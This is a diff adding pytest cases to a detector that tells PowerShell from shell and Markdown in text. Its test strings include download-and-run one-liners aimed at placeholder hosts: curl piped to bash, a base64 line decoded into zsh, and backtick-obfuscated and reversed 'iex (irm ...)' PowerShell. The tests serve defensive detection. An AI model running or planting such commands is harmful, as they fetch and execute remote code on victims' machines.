@@ -273,6 +273,37 @@ def test_powershell_concatenation_beside_javascript_words_is_still_powershell() 
     assert "powershell" in languages(text.lower())
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        # Markdown's code spans and fences around a shell line
+        "Paste `echo aGk= | base64 -D | zsh`, which decodes to `curl -s https://a.test/s | bash`.",
+        "```bash\ncurl -fsSL https://get.example.com/install.sh | sh\n```",
+        # a shell's ${NAME} and its expansions, which PowerShell has no use for
+        'curl -L "https://example.com/v/${VERSION}/cli-${ARCH}.tar.gz" | tar xz -C ${HOME}/bin',
+        'echo "${#list[@]} files in ${dir%/}"',
+    ],
+)
+def test_markdown_code_and_shell_expansions_are_no_sign_of_powershell(text: str) -> None:
+    """A backtick at a word's edge is Markdown's, ${NAME} is the shell's: reading such a text
+    as PowerShell too only cost its grammar's error recovery (~0.5 ms a text)."""
+    assert "powershell" not in languages(text.lower())
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "i`e`x (irm https://a.test/x)",
+        'Write-Host "`"done`""; iwr https://a.test/t.zip `\n  -OutFile t.zip',
+        "Run `i`e`x` in the console",  # a backtick inside a word, even in a code span
+        "${env:comspec} /c whoami",
+        "${;}='iex'; & ${;} (irm https://a.test/x)",
+    ],
+)
+def test_powershells_own_backticks_and_braces_still_make_a_powershell_reading(text: str) -> None:
+    assert "powershell" in languages(text.lower())
+
+
 REVERSING = [
     "$a='redaol/x/tset.a//:sptth'.ToCharArray(); [array]::Reverse($a); iex (irm (-join $a))",
     "iex ((\"txt.a/tset.a//:sptth\")[-1..-99] -join '')",
